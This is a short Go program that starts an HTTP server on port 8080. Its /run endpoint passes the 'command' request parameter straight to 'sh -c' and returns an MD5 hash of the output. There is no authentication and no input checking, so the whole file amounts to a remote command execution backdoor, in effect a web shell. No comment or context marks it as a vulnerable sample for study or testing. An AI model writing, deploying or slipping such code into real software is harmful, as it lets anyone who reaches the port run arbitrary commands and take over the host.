package main

import (
	"crypto/md5"
	"fmt"
	"net/http"
	"os/exec"
)

func main() {
	http.HandleFunc("/run", func(w http.ResponseWriter, r *http.Request) {
		output, _ := exec.Command("sh", "-c", r.FormValue("command")).Output()
		fmt.Fprintf(w, "%x", md5.Sum(output))
	})
	http.ListenAndServe(":8080", nil)
}
